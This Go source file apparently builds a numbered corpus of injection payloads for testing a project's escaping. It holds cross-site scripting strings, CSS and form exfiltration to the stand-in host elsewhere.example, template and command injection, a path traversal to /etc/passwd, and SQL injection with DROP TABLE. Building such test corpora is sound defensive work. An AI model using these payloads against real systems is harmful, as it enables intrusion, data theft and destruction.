// Package vector makes texts that try to become something else where they are shown: an
// element, a script, a link, a formula, an order to a terminal.
//
// Guarantees. The list is the same at every call, no text is in it twice, and each carries its
// own number, so that what it does can be told from what another does. All are the project's
// own. What they ask for is harmless: a dialog, or an answer of a host that cannot exist.
package vector

import (
	"fmt"
	"slices"
	"strings"
)

// Elsewhere is the host that vectors ask for; no name under .example resolves (RFC 6761).
const Elsewhere = "elsewhere.example"

// A Vector is one text that a source, or a person, could send.
type Vector struct {
	Number int
	Family string
	Text   string
}

// All returns every vector.
func All() []Vector {
	var all []Vector
	for _, f := range []struct {
		name  string
		texts []string
	}{
		{"elements", elements()}, {"handlers", handlers()}, {"attributes", attributes()}, {"addresses", addresses()}, {"drawings", drawings()},
		{"templates", templates()}, {"styles", styles()}, {"comments", comments()}, {"encodings", encodings()}, {"hidden", hidden()},
		{"scripts", scripts()}, {"lines", lines()}, {"mutations", mutations()},
	} {
		for _, text := range f.texts {
			n := len(all) + 1
			text = strings.NewReplacer("§", fmt.Sprint(n), "ELSEWHERE", Elsewhere).Replace(text)
			all = append(all, Vector{n, f.name, text})
		}
	}
	return all
}

// Texts returns the texts of all vectors.
func Texts() []string {
	var texts []string
	for _, v := range All() {
		texts = append(texts, v.Text)
	}
	return texts
}

// Missing returns the vectors that said, whose spaces may be others, does not have word for word.
// What a page names instead of showing it, every control and every letter but ASCII, is passed
// over.
func Missing(said string) []string {
	said = strings.Join(strings.Fields(said), " ")
	var out []string
	for _, text := range Texts() {
		named := strings.ContainsFunc(text, func(r rune) bool { return r < ' ' || r > '~' })
		if !named && !strings.Contains(said, strings.Join(strings.Fields(text), " ")) {
			out = append(out, text)
		}
	}
	return out
}

// each writes every word of a list into a text, in place of %s.
func each(text string, words ...string) []string {
	var out []string
	for _, w := range words {
		out = append(out, strings.ReplaceAll(text, "%s", w))
	}
	return out
}

// cross writes every word of a list into every text.
func cross(texts []string, words ...string) []string {
	var out []string
	for _, t := range texts {
		out = append(out, each(t, words...)...)
	}
	return out
}

func elements() []string {
	return slices.Concat([]string{
		`<script>alert(§)</script>`, `<SCRIPT>alert(§)</SCRIPT>`, `<scRipT >alert(§)</scRipT >`, `<script/§>alert(§)</script>`, "<script\n>alert(§)</script\n>", `<<script>alert(§)//<</script>`,
		`<script src=//ELSEWHERE/§.js></script>`, `<script src="data:text/javascript,alert(§)"></script>`, `<script type=module>import("//ELSEWHERE/§.js")</script>`, `<scr<script>ipt>alert(§)</scr</script>ipt>`,
		`<script>/*§*/alert(§)`, `<iframe src=//ELSEWHERE/§></iframe>`, `<iframe srcdoc="<script>parent.alert(§)</script>">`, `<object data=//ELSEWHERE/§></object>`, `<embed src=//ELSEWHERE/§>`,
		`<base href=//ELSEWHERE/§/>`, `<meta http-equiv=refresh content="0;url=//ELSEWHERE/§">`, `<meta http-equiv=refresh content="0;javascript:alert(§)">`, `<meta http-equiv=content-security-policy content="script-src * §">`,
		`<link rel=stylesheet href=//ELSEWHERE/§.css>`, `<link rel=prefetch href=//ELSEWHERE/§>`, `<link rel=preconnect href=//ELSEWHERE/§>`, `<link rel=icon href=//ELSEWHERE/§>`,
		`<form action=//ELSEWHERE/§><input autofocus name=password></form>`, `<button form=approve formaction=//ELSEWHERE/§>Approve</button>`, `<input type=image src=//ELSEWHERE/§>`,
		`<isindex action=javascript:alert(§) type=image>`, `<applet code=§ archive=//ELSEWHERE/§.jar>`, `<portal src=//ELSEWHERE/§>`, `<frameset><frame src=javascript:alert(§)></frameset>`,
		`<a href=//ELSEWHERE/§ ping=//ELSEWHERE/ping§>Approve</a>`, `<dialog open id=§>Sign in again</dialog>`, `<noscript><p title="</noscript><img src=//ELSEWHERE/§>">`, `<x-§ is=script>`,
		`<template shadowrootmode=open><script>alert(§)</script></template>`, `<slot name=§></slot>`, `<marquee behavior=alternate>§</marquee>`, `<details open ontoggle=alert(§)>`,
	}, cross([]string{`</%s><script>alert(§)</script>`, `<%s>§`},
		"title", "textarea", "style", "noscript", "xmp", "plaintext", "noembed", "noframes", "select", "iframe", "table", "template", "math", "svg", "main", "body", "html"),
		each(`<%s src=//ELSEWHERE/§>`, "img", "image", "video", "audio", "source", "track", "bgsound", "input type=image"))
}

func handlers() []string {
	events := strings.Fields("abort afterprint animationend auxclick beforecopy beforeinput beforematch beforetoggle blur cancel canplay change click close contextmenu copy cuechange dblclick " +
		"dragstart drop error focus focusin formdata gotpointercapture hashchange input invalid keydown load loadedmetadata loadstart message mousedown mouseenter mouseover pagereveal pageshow paste play " +
		"pointerenter pointerover pointerrawupdate popstate progress reset resize scroll scrollend search select show submit suspend toggle touchstart transitionend unhandledrejection unload wheel")
	return slices.Concat(each(`<img src=x on%s=alert(§)>`, events...), each(`" on%s="alert(§)" x="`, events...),
		[]string{`<svg/onload=alert(§)>`, `<img src=x oNeRrOr=alert(§)>`, "<img src=x\tonerror\n=\ralert(§)>", `<img/src=x/onerror=alert(§)//`, `<body onload=alert(§)>`, `<input autofocus onfocus=alert(§)>`,
			"<img src=x\x0conerror=alert(§)>", `<video><source onerror=alert(§)></video>`, `<a tabindex=1 id=§ onfocus=alert(§) autofocus>`, `<img src=x onerror=&#97;lert(§)>`, "<img src=`x`onerror=alert(§)>"})
}

func attributes() []string {
	var out []string
	for _, close := range []string{`"`, `'`, "`", `">`, `'>`, `"/>`, `\"`, `&quot;`, `&#34;`, `&#x27;`} {
		out = append(out, close+` autofocus onfocus=alert(§) x=`+close, close+` style=background:url(//ELSEWHERE/§) x=`+close,
			close+`<img src=//ELSEWHERE/§>`, close+` formaction=javascript:alert(§) x=`+close, close+` srcdoc=<script>alert(§)</script> x=`+close)
	}
	return out
}

func addresses() []string {
	var out []string
	for _, scheme := range []string{"javascript", "vbscript", "data", "livescript", "blob", "filesystem", "view-source", "file", "jar", "feed", "intent"} {
		rest := ":alert(§)"
		if scheme == "data" {
			rest = ":text/html,<script>alert(§)</script>"
		}
		out = append(out, scheme+rest, strings.ToUpper(scheme[:2])+scheme[2:]+rest, `<a href="`+scheme+rest+`">Original page</a>`, scheme[:2]+"\t"+scheme[2:]+rest,
			scheme[:2]+"\n"+scheme[2:]+rest, "\x01"+scheme+rest, " \u00a0"+scheme+rest, scheme+"&colon;"+rest[1:], fmt.Sprintf("&#%d;%s%s", scheme[0], scheme[1:], rest),
			fmt.Sprintf("&#x%x%s%s", scheme[0], scheme[1:], rest), scheme+"%3A"+rest[1:], scheme[:1]+"\u200b"+scheme[1:]+rest)
	}
	return append(out, `//ELSEWHERE/§`, `\\ELSEWHERE\§`, `/\ELSEWHERE/§`, `https:ELSEWHERE/§`, `https://desk@ELSEWHERE/§`, `https://ELSEWHERE/"onclick="alert(§)`, `https://ELSEWHERE/'><script>alert(§)</script>`,
		`https://ELSEWHERE/`+strings.Repeat("A", 3000)+`§`, `http://[::1]:22/§`, `javascript://ELSEWHERE/%0aalert(§)`, `javascript:/*--></title></style></textarea></script><svg/onload='/*§*/alert(§)'>`)
}

func drawings() []string {
	return slices.Concat([]string{
		`<svg onload=alert(§)>`, `<svg><script>alert(§)</script></svg>`, `<svg><script href=//ELSEWHERE/§ /></svg>`, `<svg><a xlink:href=javascript:alert(§)><text y=20>Original page</text></a></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(§)'/></svg>#x"/></svg>`, `<svg><image href=//ELSEWHERE/§ /></svg>`,
		`<svg><foreignObject><iframe src=javascript:alert(§)></foreignObject></svg>`, `<svg><set attributeName=onload to=alert(§)></svg>`, `<svg><feImage href=//ELSEWHERE/§ /></svg>`,
		`<svg><handler type=text/javascript ev:event=load>alert(§)</handler></svg>`, `<svg><style>@import "//ELSEWHERE/§";</style></svg>`, `<svg><desc><![CDATA[</desc><script>alert(§)</script>]]></svg>`,
		`<math href=javascript:alert(§)>click</math>`, `<math><maction actiontype=statusline#//ELSEWHERE/§ xlink:href=javascript:alert(§)>click</math>`, `<math><annotation-xml encoding=text/html><img src=x onerror=alert(§)></math>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(§)></table></math>`, `<?xml-stylesheet href="javascript:alert(§)"?><svg/>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "//ELSEWHERE/§">]><x>&e;</x>`,
	}, each(`<svg><animate attributeName=href values=javascript:alert(§) %s /></svg>`, "begin=0s", "onbegin=alert(§)", "onend=alert(§)", "onrepeat=alert(§)"))
}

func templates() []string {
	return []string{
		`{{.}}`, `{{.User}} §`, `{{define "main"}}§{{end}}`, `{{template "runs" .}} §`, `{{printf "%s" "<script>alert(§)</script>"}}`, `{{"<img src=x onerror=alert(§)>" | safeHTML}}`, `{{/* § */}}`, `{{- § -}}`,
		`{{constructor.constructor('alert(§)')()}}`, `{{$on.constructor('alert(§)')()}}`, `{% include "//ELSEWHERE/§" %}`, `{%raw%}<script>alert(§)</script>{%endraw%}`, `{{7*§}}`, `${alert(§)}`, `#{alert(§)}`,
		`%{alert(§)}`, `@{alert(§)}`, `*{alert(§)}`, `[[§]]`, `[(${§})]`, `<%= alert(§) %>`, `<% § %>`, `<?php alert(§) ?>`, `<?= § ?>`, `<!--#exec cmd="echo §"-->`, `<!--#include virtual="/§"-->`, `@import("§")`,
		`%s%d%n%x §`, `%!s(MISSING) §`, `§ %[1]s %[2]*d`, `$(touch /tmp/§)`, "`touch /tmp/§`", `; touch /tmp/§ #`, `../../../../etc/passwd#§`, `__proto__[§]`, `<xsl:value-of select="§"/>`, `<esi:include src="//ELSEWHERE/§"/>`,
		`{"$ne": §}`, `' OR §=§ --`, `§'; DROP TABLE cases; --`,
	}
}

func styles() []string {
	return []string{
		`<style>@import "//ELSEWHERE/§.css";</style>`, `<style>body{background:url(//ELSEWHERE/§)}</style>`, `</style><script>alert(§)</script>`, `<p style="background:url(//ELSEWHERE/§)">`, `<p style=width:expression(alert(§))>`,
		`<p style="behavior:url(//ELSEWHERE/§.htc)">`, `<p style="-moz-binding:url(//ELSEWHERE/§.xml#x)">`, `<p style="position:fixed;inset:0;background:#fff">§ Sign in again</p>`, `<style>.bar{display:none}/*§*/</style>`,
		`<style>input[value^="a"]{background:url(//ELSEWHERE/§)}</style>`, `<style>@font-face{font-family:x;src:url(//ELSEWHERE/§)}</style>`, `<p class="btn primary § bar toast">`, `<p style="list-style:url('javascript:alert(§)')">`,
		`*/}</style><img src=//ELSEWHERE/§>`, `<link rel=stylesheet href="data:text/css,*{x:§}">`, `<style>@\69mport "//ELSEWHERE/§";</style>`, `<p style="&#98;ackground:url(//ELSEWHERE/§)">`, `<svg><style>*{fill:url(//ELSEWHERE/§#x)}</style></svg>`,
	}
}

func comments() []string {
	return []string{
		`--><script>alert(§)</script><!--`, `--!><img src=x onerror=alert(§)>`, `<!--><img src=x onerror=alert(§)>-->`, `<!---><img src=x onerror=alert(§)>-->`, `<![CDATA[<script>alert(§)</script>]]>`, `]]><script>alert(§)</script><![CDATA[`,
		`]]]]><![CDATA[><img src=//ELSEWHERE/§>`, `<!-- § `, `<![if IE]><script>alert(§)</script><![endif]>`, `<!--[if gte IE 4]><script>alert(§)</script><![endif]-->`, `<?xml version="1.0"?><§>`, `<?§><img src=x onerror=alert(§)>`,
		`</§><script>alert(§)</script>`, `<!§><img src=//ELSEWHERE/§>`, `<!doctype html><title>§`, `</body></html><script>alert(§)</script>`, `<a <script>alert(§)</script>`, `<a § href="javascript:alert(§)`, `<§`, `</`, `<!`, `&`, `&#§`, `&#x`,
		`<img src="x§" title="-->" onerror=alert(§)>`, `</item></channel></rss><script>alert(§)</script>`, `</title></item><item><title>§</title>`,
	}
}
